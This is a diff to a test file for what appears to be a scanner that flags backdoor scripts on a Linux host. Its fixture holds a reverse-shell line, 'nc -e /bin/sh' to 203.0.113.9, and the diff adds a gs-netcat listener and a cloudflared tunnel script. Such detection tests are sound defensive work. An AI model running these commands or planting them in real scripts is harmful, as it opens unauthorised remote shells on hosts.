@@ -60,10 +60,10 @@ test('a backdoor as a script, and a script before a packaged program', () => {
 		byPath(
 			sweep(
 				tellingPrograms,
-				memoryHost({ '/var/lib/dpkg/info/a.list': '/usr/bin/apt\n/usr/bin/own\n', '/usr/bin/own': script('nc -e /bin/sh 203.0.113.9 1'), '/usr/local/sbin/rotate': script('nc -e /bin/sh 203.0.113.9 1'), '/usr/local/bin/apt': script(fetch), '/usr/local/bin/install-tool': script(fetch), '/home/ann/x.sh': script('nc -e /bin/sh 203.0.113.9 1') }),
+				memoryHost({ '/var/lib/dpkg/info/a.list': '/usr/bin/apt\n/usr/bin/own\n', '/usr/bin/own': script('nc -e /bin/sh 203.0.113.9 1'), '/usr/local/sbin/rotate': script('nc -e /bin/sh 203.0.113.9 1'), '/usr/local/bin/apt': script(fetch), '/usr/local/bin/install-tool': script(fetch), '/opt/net/keep': script('exec gs-netcat -s k -l -i'), '/opt/net/web': script('exec cloudflared tunnel run'), '/home/ann/x.sh': script('nc -e /bin/sh 203.0.113.9 1') }),
 			),
 		),
-	).toEqual(['high /usr/local/bin/apt', 'high /usr/local/sbin/rotate']);
+	).toEqual(['high /opt/net/keep', 'high /usr/local/bin/apt', 'high /usr/local/sbin/rotate']);
 });
 
 test('a script in a temporary place that adds to its PATH was called the log of a sniffer', () => {
